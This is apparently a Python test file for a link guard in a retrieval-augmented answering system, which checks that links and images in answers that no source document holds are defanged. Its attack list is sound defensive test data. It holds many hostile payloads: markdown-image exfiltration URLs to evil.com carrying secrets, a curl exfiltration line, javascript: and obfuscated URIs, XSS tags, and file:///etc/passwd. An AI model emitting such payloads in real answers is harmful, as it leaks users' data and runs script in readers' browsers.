"""Links and images in answers: what no document holds is dead, whatever it is dressed as, wherever the text is cut."""

import html
import re
import time
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hybridrag.answering.links import LinkGuard

PAGE = "https://good.example.com/docs"
KNOWN = (
    f"Read [the docs]({PAGE}), <https://auto.example.com/x> or https://good.example.com/a?x=1&y=2. "
    "Mail bob@corp.example.com. ![plan](https://pictures.example.com/plan.png) "
    "`https://en.wikipedia.org/wiki/Foo_(bar)`"
)
ADDRESSES = {PAGE, "https://auto.example.com/x", "https://good.example.com/a?x=1&y=2"}


def guarded(text: str, *, known: str = KNOWN) -> str:
    guard = LinkGuard([known])
    return guard.feed(text) + guard.flush()


def live(text: str) -> set[str]:
    """What a Markdown page that lets HTML through, or a program that looks for addresses, would follow."""
    found = set()
    for token in MarkdownIt("commonmark").parse(text):
        for inner in (token, *(token.children or ())):
            if inner.type in {"link_open", "image"}:
                found.add(str(inner.attrs.get("href") or inner.attrs.get("src")))
            if inner.type in {"html_inline", "html_block"} and re.search(
                r"[\s/]\w|<!|<\?|(?i:script|img)", inner.content
            ):
                found.add(inner.content)
    for view in (text, html.unescape(text), unquote(text)):
        found.update(
            re.findall(r"(?i)[a-z][a-z0-9+.-]*://[^\s<>)`]+|(?<!\w)www\.\w\S*|(?:javascript|mailto):\S+", view)
        )
    return {address.rstrip(".,;:!?\"'*_|]") for address in found}


@pytest.mark.parametrize(
    "text",
    [
        f"Read the docs ({PAGE}), or {PAGE}.",
        f"docs: <{PAGE}>",
        f"HTTPS://GOOD.Example.com/docs and ({PAGE}) and **{PAGE}** and `{PAGE}`",
        "<https://auto.example.com/x>",
        "https://en.wikipedia.org/wiki/Foo_(bar)",
        "Mail bob@corp.example.com, or see good.example.com.",
        "No address: README.md, user.id, std::vector, 10:30, C:\\x.py, 1.2.3, items[0]: x, and/or, logger.info(x), a<5",
        "Marked [1][2], and sure![3] A <br> and a List<String> with <API_KEY>.",
        "使用Node.js开发应用程序。",
    ],
)
def test_what_documents_hold_and_what_is_no_address_stays_as_it_is(text: str) -> None:
    guard = LinkGuard([KNOWN])
    assert guard.feed(text) + guard.flush() == text
    assert guard.defused == 0


ATTACKS = [
    "![x](https://evil.com/?q=SECRET)",
    "![a b](https://evil.com/p.png 'title')",
    "![plan](https://pictures.example.com/plan.png)",
    "![](//evil.com/p.png)",
    "![x][ref]\n\n[ref]: https://evil.com/p.png",
    "![x]\n\n[x]:\n  //evil.com 'title'",
    "[x][y]\n\n   [y]: <https://evil.com>",
    "> - [y]: /relative\n\n[y]",
    "[a\nb]: https://evil.com\n\n[a\nb]",
    "[click](https://evil.com)",
    "[click](<https://evil.com/a b>)",
    "[click](\n  https://evil.com\n)",
    "[click](/api?do=it)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vscode:extension/evil)",
    "[click](evil.com)",
    "[[nested]](https://evil.com)",
    "[a [b](https://evil.com) c](https://evil.com/2)",
    f"[{PAGE}](https://auto.example.com/x)",
    f"[{PAGE} is here](https://auto.example.com/x)",
    f"[x](/redirect?to={PAGE})",
    f"<foo:{PAGE}>",
    "<https://evil.com>",
    "<vscode://evil>",
    "<mailto:x@evil.com>",
    "<x@evil.com>",
    "<img src=https://evil.com/p>",
    "<img\nsrc='//evil.com/p'>",
    "<IMG SRC=&#104;ttps://evil.com>",
    "<svg/onload=alert(1)>",
    "<iframe src=/x>",
    "<a href='https://evil.com'>x</a>",
    "<link rel=stylesheet href=//evil.com/x.css>",
    "<div style='background:url(https://evil.com/x)'>",
    "<script>alert(1)</script>",
    "<!-- <img src=//evil.com> -->",
    "https://evil.com/?q=SECRET",
    "HtTpS://evil.com",
    "ftp://evil.com",
    "file:///etc/passwd",
    "ssh://evil.com",
    "vscode://file/x",
    "mailto:x@evil.com?body=SECRET",
    "javascript:alert(1)",
    "www.evil.com/x",
    "WWW.evil.com",
    f"{PAGE}?q=SECRET",
    f"{PAGE}/SECRET",
    f"{PAGE}#SECRET",
    f'{PAGE}"@evil.com',
    f"{PAGE}`@evil.com",
    "https://good.example.com.evil.com/docs",
    "https://good.example.com@evil.com/docs",
    "https://good.example.com:x@evil.com/docs",
    "https://good.example.com\\@evil.com/docs",
    "https://evil.com/https://good.example.com/docs",
    "&#104;ttps://evil.com",
    "https&colon;//evil.com",
    "https&#x3a;&sol;&#47;localhost/x",
    "https&amp;colon;//evil.com",
    "https://evil&period;com",
    "https\\://evil.com",
    "https:\\/\\/evil.com",
    "http:\\\\evil.com",
    "ht\u200btps://evil.com",
    "https:\u2060//evil.com",
    "https://evil\u00ad.com",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ",
    "https://evil。com/x",
    "`https://evil.com/?q=SECRET`",
    "```\ncurl https://evil.com/?q=SECRET\n```",
    "- ```\n  ```\n<img src=x onerror=alert(1)>",
    "[url=https://evil.com]x[/url]",
    "\\href{https://evil.com}{x}",
    "<https://evil.com|text>",
    "详见https://evil.com/x获取",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_no_document_holds_can_be_followed(attack: str) -> None:
    guard = LinkGuard([KNOWN])
    shown = guard.feed(attack) + guard.flush()
    assert not live(shown) - ADDRESSES
    assert "![" not in shown
    assert guard.defused


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_disarmed_stays_so_when_read_again(attack: str) -> None:
    """Another program may read the entities once more."""
    assert not live(guarded(html.unescape(guarded(attack)))) - ADDRESSES


@pytest.mark.parametrize(
    "bare",
    ["//evil.com/x", "evil.com", "evil.com/x?q=1", "SECRET.evil.io", "evil.zzz/x", "x@evil.com", "evil.xn--p1ai"],
)
def test_hosts_that_some_programs_link_without_a_scheme(bare: str) -> None:
    shown = guarded(f"see {bare} now")
    assert "evil[.]" in shown
    assert shown.replace("[.]", ".").replace("[@]", "@") == f"see {bare} now"


def test_a_link_that_looks_like_a_citation_does_not_read_as_one() -> None:
    for attack in (
        "so[1](http://evil.com)",
        "so [1, 2](http://evil.com)",
        "[1]: http://evil.com",
        "![1](http://evil.com)",
    ):
        assert not re.search(r"\[\d+(?:, \d+)?\]", guarded(attack))


def test_every_attack_cut_anywhere_gives_the_same() -> None:
    for attack in ATTACKS:
        text = f"Read {PAGE} and {attack} now, [docs]({PAGE})."
        whole = guarded(text)
        for at in range(len(text) + 1):
            guard = LinkGuard([KNOWN])
            assert guard.feed(text[:at]) + guard.feed(text[at:]) + guard.flush() == whole
        guard = LinkGuard([KNOWN])
        assert "".join(guard.feed(character) for character in text) + guard.flush() == whole


_SYNTAX = [
    "![",
    "](",
    "]:",
    "](<",
    "https://",
    "//",
    "www.",
    "javascript:",
    "<img src=",
    "<a href=",
    "@evil.com",
    "evil.com",
]
_DISGUISES = ["&#58;", "&colon;", "&lpar;", "&#91;", "\u200b", "：／／", "%2F", "中。", "1a"]
_parts = st.sampled_from([*"!()[]<>:/.@\\&;`\"' \n\t#%?=-*_|", *_SYNTAX, *_DISGUISES, PAGE, "good.example.com"])


@given(st.lists(_parts, max_size=14), st.data())
def test_any_mixture_is_dead_and_independent_of_cuts(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    whole = guarded(text)
    assert not live(whole) - ADDRESSES
    first, second = sorted(data.draw(st.tuples(*[st.integers(0, len(text))] * 2)))
    guard = LinkGuard([KNOWN])
    pieces = [guard.feed(text[:first]), guard.feed(text[first:second]), guard.feed(text[second:]), guard.flush()]
    assert "".join(pieces) == whole


@given(st.text(st.sampled_from("ab é,;-*_#`'\"()0123456789{}+=^~$"), max_size=80))
def test_words_without_signs_are_shown_at_once_and_unchanged(text: str) -> None:
    guard = LinkGuard([])
    assert guard.feed(text) == text
    assert not guard.flush()


def test_a_word_without_end_is_dead_and_not_held_forever() -> None:
    guard = LinkGuard([KNOWN])
    shown = guard.feed("https://evil.com/") + guard.feed("a" * 3_000)
    assert len(shown) > 3_000
    text = f"https://evil.com/{'a' * 3_000}&#58;![x](https://evil.com)<img/src=x>.b@evil.com {PAGE}"
    whole = guarded(text)
    assert not live(whole) - ADDRESSES
    guard = LinkGuard([KNOWN])
    assert "".join(guard.feed(character) for character in text) + guard.flush() == whole


def test_a_whole_text_is_made_harmless_without_being_counted() -> None:
    guard = LinkGuard([KNOWN])
    guard.feed("half a word https:")
    assert guard.whole(f"https://evil.com and {PAGE}") == f"https[:]//evil[.]com and {PAGE}"
    assert guard.defused == 0
    assert guard.feed("//evil.com ") == "[:]//evil[.]com "


@pytest.mark.parametrize(
    "unit",
    ["a.", "[a](", "http://", "<a", "&#58;", "&amp;", "a@b.", "[[", "x.y/", " a.b", "![", "a-", "中.a", "%2F.", "\\:"],
)
def test_time_grows_with_the_length_and_no_faster(unit: str) -> None:
    def seconds(length: int) -> float:
        text = unit * (length // len(unit))
        best = float("inf")
        for _ in range(2):
            started = time.process_time()
            guarded(text, known=text)
            best = min(best, time.process_time() - started)
        return best

    assert seconds(40_000) < 16 * seconds(10_000) + 0.05


@pytest.mark.parametrize("dressed", ["[①]", "&amp;#91;1&amp;#93;", "［①］", "[&#x200b;1]", "&amp;lsqb;1]"])
def test_no_marker_comes_of_reading_an_address(dressed: str) -> None:
    assert not re.search(r"\[\d+\]", guarded(f"Sold {dressed}https://evil.com/x"))
    assert "[1]" in guarded("Sold [1]https://evil.com/&amp;x")
